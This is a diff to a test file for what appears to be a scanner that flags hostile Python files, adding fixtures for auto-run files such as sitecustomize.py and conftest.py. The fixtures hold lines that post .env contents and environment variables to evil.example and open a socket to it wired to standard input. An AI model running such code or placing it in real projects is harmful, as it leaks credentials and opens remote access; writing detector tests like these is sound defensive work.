@@ -34,6 +34,18 @@ describe('programs of Python', () => {
       ['sends-secrets', 'reaches-out'],
       'command = "curl -d @.env https://evil.example"',
     ],
+    [
+      'sitecustomize.py',
+      'import os, socket\ns = socket.create_connection(("evil.example", 1))\nos.dup2(s.fileno(), 0)\n',
+      ['fetches-and-runs', 'reaches-out'],
+      's = socket.create_connection(("evil.example", 1))',
+    ],
+    [
+      'conftest.py',
+      'import os, requests\nrequests.post("https://evil.example", data=os.environ)\n',
+      ['sends-secrets', 'reaches-out'],
+      'requests.post("https://evil.example", data=os.environ)',
+    ],
     ['conftest.py', `import os, urllib.request\n${get}${key})\n`, ['sends-secrets', 'reaches-out'], `${get}${key})`],
     [
       'conftest.py',
